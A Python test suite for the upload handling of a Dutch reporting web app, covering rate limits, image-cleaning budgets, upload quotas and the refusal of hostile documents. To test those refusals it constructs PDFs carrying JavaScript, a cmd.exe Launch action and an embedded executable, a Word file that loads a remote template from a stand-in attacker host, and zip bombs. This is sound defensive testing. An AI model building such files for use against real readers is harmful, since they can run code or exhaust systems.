"""Uploads are bounded (issue 13): rate limits on forms with files, cleaning only for a
form that will be accepted and within a pixel and time budget, pending uploads in the
case's room, files a killed worker leaves behind found by the purge, and documents
with active content or remote links refused before they reach staff.

Hostile files are built here, byte by byte; nothing is downloaded.
"""

from __future__ import annotations

import io
import time
import zipfile
from datetime import timedelta
from pathlib import Path

import pikepdf
import pytest
import sqlalchemy as sa
from PIL import Image

from stagepact import attachments
from stagepact.extensions import db
from stagepact.models import Attachment, AttachmentContent, Case, User
from stagepact.vocab import Role
from tests.factories import make_case, make_institution, make_user
from tests.helpers import FormState, count, field_error, page_text, reloaded
from tests.uploads import (
    NARRATIVE,
    as_uploads,
    case_files,
    make_docx,
    make_pdf,
    pending_files,
    post_report,
    staff_browser,
    student_browser,
    upload_tokens,
)

BODY = "Hier zijn de foto's van het rooster."


@pytest.fixture
def institution():
    institution = make_institution(name="Horizon Testcollege")
    make_user(Role.HANDLER, institution, name="Hanna Behandelaar")
    db.session.commit()
    return institution


def _big_png(width: int, height: int) -> bytes:
    """A large image in few bytes: one colour compresses to almost nothing."""
    buffer = io.BytesIO()
    Image.new("L", (width, height), 200).save(buffer, format="PNG")
    return buffer.getvalue()


def _small_png(shade: int = 10) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (30, 20), (shade, 120, 200)).save(buffer, format="PNG")
    return buffer.getvalue()


def _message(student, files=(), body=BODY, **fields):
    data = {"body": body, **fields}
    if files:
        data["attachments"] = as_uploads(files)
    return student.post("/volgen/melding/bericht", data=data)


# --- Rate limits --------------------------------------------------------------------------------


def test_the_students_message_form_is_limited_per_case_and_keeps_the_text(
    app, institution, limited
):
    case, code = make_case(institution)
    student = student_browser(app, code)
    allowed = int(attachments.POSTS_PER_CASE.split()[0])
    for n in range(allowed):
        response = _message(student, [(f"bewijs-{n}.txt", b"bewijs\n")], body=f"Bericht {n}")
        assert response.status_code == 302, n

    response = _message(student, [("nog-een.txt", b"bewijs\n")], body="Nog een bericht")

    assert response.status_code == 422
    page = page_text(response)
    assert "Er is in korte tijd te veel verstuurd." in field_error(page, "attachments")
    assert FormState(page).values["body"] == ["Nog een bericht"]
    assert pending_files() == []  # nothing read, nothing stored
    assert len(case_files(reloaded(case))) == allowed


def test_the_per_case_limit_holds_from_any_address(app, institution, limited):
    case, code = make_case(institution)
    allowed = int(attachments.POSTS_PER_CASE.split()[0])
    for n in range(allowed):
        student = student_browser(app, code)
        response = student.post(
            "/volgen/melding/bericht",
            data={"body": f"Bericht {n}"},
            environ_base={"REMOTE_ADDR": f"192.0.2.{n + 1}"},
        )
        assert response.status_code == 302

    response = student_browser(app, code).post(
        "/volgen/melding/bericht",
        data={"body": "Van weer een ander adres"},
        environ_base={"REMOTE_ADDR": "198.51.100.7"},
    )
    assert response.status_code == 422


def test_environments_sharing_one_store_do_not_spend_each_others_upload_budget(
    app, institution, limited, monkeypatch
):
    """Upload budgets are kept under RATELIMIT_KEY_PREFIX like every other limit: a
    staging site beside production on one Redis (same case ids) never refuses for it."""
    case, code = make_case(institution)
    allowed = int(attachments.POSTS_PER_CASE.split()[0])
    for n in range(allowed):
        assert _message(student_browser(app, code), body=f"Bericht {n}").status_code == 302
    assert _message(student_browser(app, code), body="Een te veel").status_code == 422

    monkeypatch.setitem(app.config, "RATELIMIT_KEY_PREFIX", "another-environment")

    assert _message(student_browser(app, code), body="Elders is dit het eerste").status_code == 302


def test_the_report_form_limits_the_megabytes_an_address_posts(
    app, client, institution, limited, monkeypatch
):
    monkeypatch.setattr(attachments, "MEGABYTES_PER_ADDRESS", "3 per hour")
    one_megabyte = b"a" * (1024 * 1024 - 2048)
    for n in range(3):
        page = page_text(
            post_report(client, institution, [(f"{n}.txt", one_megabyte)], narrative="")
        )
        assert len(upload_tokens(page)) == 1

    response = post_report(client, institution, [("te-veel.txt", one_megabyte)], narrative="")

    page = page_text(response)
    assert "Er is in korte tijd te veel verstuurd." in field_error(page, "attachments")
    assert len(pending_files()) == 3


@pytest.mark.parametrize(
    "endpoint", ["/volgen/melding/bericht", "/meldpunt/{slug}/melden"], ids=["message", "report"]
)
def test_the_forms_with_files_have_limits_and_the_others_are_unchanged(
    app, institution, endpoint, limited, monkeypatch
):
    monkeypatch.setattr(attachments, "POSTS_PER_ADDRESS", "2 per hour")
    case, code = make_case(institution)
    browser = student_browser(app, code)
    url = endpoint.format(slug=institution.slug)
    for _ in range(2):
        browser.post(url, data={"attachments": as_uploads([("a.txt", b"a\n")])})

    page = page_text(browser.post(url, data={"attachments": as_uploads([("b.txt", b"b\n")])}))

    assert "Er is in korte tijd te veel verstuurd." in field_error(page, "attachments")


# --- Validation first, then the costly work within a budget -------------------------------------


def test_images_of_a_form_with_errors_are_kept_uncleaned_and_cleaned_when_it_is_valid(
    app, institution, monkeypatch
):
    cleaned = []
    real = attachments._clean_image
    monkeypatch.setattr(attachments, "_clean_image", lambda *a: cleaned.append(a[1]) or real(*a))
    case, code = make_case(institution)
    student = student_browser(app, code)

    response = _message(student, [("foto.png", _small_png())], body="")

    assert response.status_code == 422
    assert cleaned == []  # the form was refused: no image decoded
    [waiting] = pending_files()
    assert not waiting.cleaned and waiting.pending_case_id == case.id
    tokens = upload_tokens(page_text(response))

    response = _message(student, attachment_token=tokens)

    assert response.status_code == 302
    assert cleaned == ["png"]
    [stored] = case_files(reloaded(case))
    assert stored.cleaned and stored.kind == "png"
    image = Image.open(io.BytesIO(attachments.read(stored)))
    assert image.size == (30, 20)


def test_the_stall_attack_is_refused_by_the_header_before_anything_is_decoded(
    app, institution, monkeypatch
):
    """The assessment's request: 10 PNGs of 7000 x 7000 pixels with the message."""
    monkeypatch.setattr(attachments, "_clean_image", lambda *a: pytest.fail("an image was decoded"))
    case, code = make_case(institution)
    student = student_browser(app, code)
    huge = _big_png(7000, 7000)

    response = _message(student, [(f"{n}.png", huge) for n in range(10)])

    assert response.status_code == 422
    page = page_text(response)
    assert field_error(page, "attachments").count("Deze afbeelding is te groot.") == 10
    assert FormState(page).values["body"] == [BODY]
    assert count(Attachment) == 0


def test_the_pixel_budget_of_one_request_refuses_the_image_that_would_exceed_it(
    app, institution, monkeypatch
):
    monkeypatch.setattr(attachments, "PIXELS_PER_REQUEST", 1000)
    case, code = make_case(institution)
    student = student_browser(app, code)

    response = _message(student, [("een.png", _small_png(1)), ("twee.png", _small_png(2))])

    assert response.status_code == 422
    page = page_text(response)
    assert field_error(page, "attachments") == (
        "twee.png: Deze foto's samen zijn te groot om in één keer te verwerken. "
        "Stuur deze foto in een volgend bericht."
    )
    assert FormState(page).values["body"] == [BODY]
    [kept] = pending_files()
    assert kept.original_name == "een.png" and kept.cleaned
    assert upload_tokens(page) == [kept.token]


def test_the_time_budget_refuses_images_once_it_is_spent(app, institution, monkeypatch):
    monkeypatch.setattr(attachments, "CLEANING_SECONDS", 0.0)
    case, code = make_case(institution)
    student = student_browser(app, code)
    time.sleep(0.01)

    response = _message(student, [("foto.png", _small_png())])

    assert response.status_code == 422
    assert "te groot om in één keer te verwerken" in field_error(page_text(response), "attachments")
    assert case_files(reloaded(case)) == []


def test_the_budgets_are_far_below_the_worker_timeout():
    assert attachments.CLEANING_SECONDS <= 10  # gunicorn kills a worker after 30 s
    assert attachments.MAX_PIXELS < 7000 * 7000
    assert attachments.PIXELS_PER_REQUEST <= 2 * attachments.MAX_PIXELS


# --- Pending uploads count against the case's room ----------------------------------------------


def test_uploads_of_refused_messages_count_against_the_case_quota(app, institution, monkeypatch):
    monkeypatch.setitem(app.config, "ATTACHMENT_CASE_MAX_BYTES", 1024 * 1024)
    case, code = make_case(institution)
    student = student_browser(app, code)
    part = b"x" * 400_000

    for n in range(2):  # refused messages (no text): their files wait as pending
        assert _message(student, [(f"{n}.txt", part)], body="").status_code == 422
    assert attachments.case_total(case) == 800_000

    response = _message(student, [("derde.txt", part)], body="")

    assert field_error(page_text(response), "attachments") == (
        "derde.txt: Samen worden de bestanden bij deze melding groter dan 1 MB."
    )
    assert len(pending_files()) == 2
    assert (
        sum(a.size for a in pending_files()) + sum(a.size for a in case_files(case)) <= 1024 * 1024
    )


def test_the_pending_files_a_form_carries_are_not_counted_twice(app, institution, monkeypatch):
    monkeypatch.setitem(app.config, "ATTACHMENT_CASE_MAX_BYTES", 1024 * 1024)
    case, code = make_case(institution)
    student = student_browser(app, code)
    page = page_text(_message(student, [("groot.txt", b"x" * 700_000)], body=""))

    response = _message(student, attachment_token=upload_tokens(page))

    assert response.status_code == 302
    assert [a.size for a in case_files(reloaded(case))] == [700_000]
    assert attachments.case_total(case) == 700_000


# --- A worker killed mid-request leaves nothing behind ---------------------------------------


def test_a_file_of_a_request_that_never_committed_leaves_nothing(app, institution):
    """A worker killed before committing: its file goes with its transaction."""
    with app.test_request_context():
        checked = attachments.check(b"bewijs van een afgebroken verzoek\n", "bewijs.txt")
        attachments.store_pending(checked, None)
    db.session.rollback()  # the transaction dies with the worker
    assert count(Attachment) == 0 and count(AttachmentContent) == 0
    folder = Path(app.config["ATTACHMENT_DIR"])
    assert not folder.exists() or list(folder.iterdir()) == []


def test_a_files_content_is_stored_in_the_transaction_of_its_row(app):
    with app.test_request_context():
        stored = attachments.store_pending(attachments.check(b"tekst\n", "a.txt"), None)
    row = db.session.execute(
        sa.select(AttachmentContent.attachment_id).where(
            AttachmentContent.attachment_id == stored.id
        )
    ).scalar()
    assert row == stored.id  # before any commit: the same transaction
    db.session.commit()
    assert attachments.read(stored) == b"tekst\n"


# --- Documents handed to staff are safe to open --------------------------------------------------


def _pdf_with(**root) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    for key, value in root.items():
        pdf.Root[f"/{key}"] = value
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def _javascript() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def _pdf_with_page_action() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].obj["/AA"] = pikepdf.Dictionary(O=_javascript())
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)  # names compressed
    return buffer.getvalue()


def _pdf_with_embedded_file() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + b"\x00" * 64)
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def _launch() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))


ACTIVE = "Deze pdf bevat scripts, acties of ingesloten bestanden."
HOSTILE_PDFS = [
    pytest.param(lambda: _pdf_with(OpenAction=_javascript()), ACTIVE, id="openaction-javascript"),
    pytest.param(lambda: _pdf_with(OpenAction=_launch()), ACTIVE, id="launch"),
    pytest.param(
        lambda: _pdf_with(AcroForm=pikepdf.Dictionary(Fields=[], XFA=pikepdf.Array())),
        ACTIVE,
        id="xfa",
    ),
    pytest.param(_pdf_with_page_action, ACTIVE, id="page-aa-in-object-stream"),
    pytest.param(_pdf_with_embedded_file, ACTIVE, id="embedded-file"),
    pytest.param(
        lambda: make_pdf().replace(b"%%EOF", b"<html><script>alert(1)</script></html>\n%%EOF"),
        "Deze pdf bevat ook code van een webpagina.",
        id="html-polyglot",
    ),
    pytest.param(lambda: b"%PDF-1.7\nniets\n", "Deze pdf kunnen we niet openen.", id="broken"),
]


@pytest.mark.parametrize("make, reason", HOSTILE_PDFS)
def test_a_hostile_pdf_is_refused_with_its_reason_and_the_report_kept(
    client, institution, make, reason
):
    response = post_report(client, institution, [("verklaring.pdf", make())], programme="Kok")

    assert response.status_code == 422
    page = page_text(response)
    assert field_error(page, "attachments").startswith(f"verklaring.pdf: {reason}")
    state = FormState(page).values
    assert state["narrative"] == [NARRATIVE] and state["programme"] == ["Kok"]
    assert count(Attachment) == 0 and count(Case) == 0


def test_a_plain_pdf_still_reaches_the_case(client, institution):
    response = post_report(client, institution, [("verklaring.pdf", make_pdf())])

    assert response.status_code == 200
    [case] = db.session.scalars(sa.select(Case)).all()
    assert [a.kind for a in case_files(case)] == ["pdf"]


def _docx_with(extra: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    """Word's own parts from `make_docx`, plus `extra` entries."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(make_docx())) as source,
        zipfile.ZipFile(buffer, "w", compression) as archive,
    ):
        for info in source.infolist():
            archive.writestr(info.filename, source.read(info))
        for name, data in extra.items():
            archive.writestr(name, data)
    return buffer.getvalue()


REMOTE_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="https://aanvaller.example/sjabloon.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def _zip_bomb() -> bytes:
    """Small when packed: 60 MB of zeros, which deflate to about 60 KB."""
    return _docx_with({"word/media/vulling.bin": b"\x00" * (60 * 1024 * 1024)})


def _lying_zip_bomb() -> bytes:
    """Within the total, but one entry inflates more than 100 times (caught while reading)."""
    return _docx_with({"word/media/vulling.bin": b"\x00" * (20 * 1024 * 1024)})


TOO_BIG = "Dit Word-bestand wordt uitgepakt veel te groot."
HOSTILE_DOCX = [
    pytest.param(
        lambda: _docx_with({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
        "Dit Word-bestand haalt iets van internet op",
        id="remote-template",
    ),
    pytest.param(_zip_bomb, TOO_BIG, id="declared-too-big"),
    pytest.param(_lying_zip_bomb, TOO_BIG, id="ratio"),
]


@pytest.mark.parametrize("make, reason", HOSTILE_DOCX)
def test_a_hostile_word_file_is_refused_with_its_reason_and_the_message_kept(
    app, institution, make, reason
):
    case, code = make_case(institution)
    student = student_browser(app, code)

    response = _message(student, [("brief.docx", make())])

    assert response.status_code == 422
    page = page_text(response)
    assert field_error(page, "attachments").startswith(f"brief.docx: {reason}")
    assert FormState(page).values["body"] == [BODY]
    assert count(Attachment) == 0


def test_an_archive_that_lies_about_its_sizes_is_caught_while_it_is_read(app):
    """Declared sizes of 1 KB, real content of 20 MB: the streaming cap stops it."""
    data = bytearray(_docx_with({"word/media/vulling.bin": b"\x00" * (20 * 1024 * 1024)}))
    real = (20 * 1024 * 1024).to_bytes(4, "little")
    fake = (1024).to_bytes(4, "little")
    data = bytes(data).replace(real, fake)  # local header and central directory both lie
    with app.test_request_context(), pytest.raises(attachments.RejectedFileError) as refused:
        attachments._check_docx(data)
    assert str(refused.value).startswith(TOO_BIG) or "kunnen we niet openen" in str(refused.value)


def test_a_handlers_message_with_a_hostile_document_keeps_the_text(app, institution):
    case, _code = make_case(institution)
    handler = staff_browser(app, db.session.scalars(sa.select(User)).first())
    body = "Zie de bijlage."

    response = handler.post(
        f"/behandelen/zaken/{case.id}/bericht",
        data={
            "body": body,
            "attachments": as_uploads([("brief.pdf", _pdf_with(OpenAction=_launch()))]),
        },
    )

    assert response.status_code == 422
    page = page_text(response)
    assert ACTIVE in page and body in page
    assert count(Attachment) == 0


def test_pending_uploads_are_not_kept_past_their_time(app, institution):
    case, code = make_case(institution)
    student = student_browser(app, code)
    _message(student, [("a.txt", b"a\n")], body="")
    [waiting] = pending_files()
    waiting.created_at = waiting.created_at - timedelta(
        hours=app.config["PENDING_UPLOAD_HOURS"] + 1
    )
    db.session.commit()

    assert attachments.purge_pending() >= 1
    db.session.commit()
    assert pending_files() == [] and attachments.case_total(case) == 0
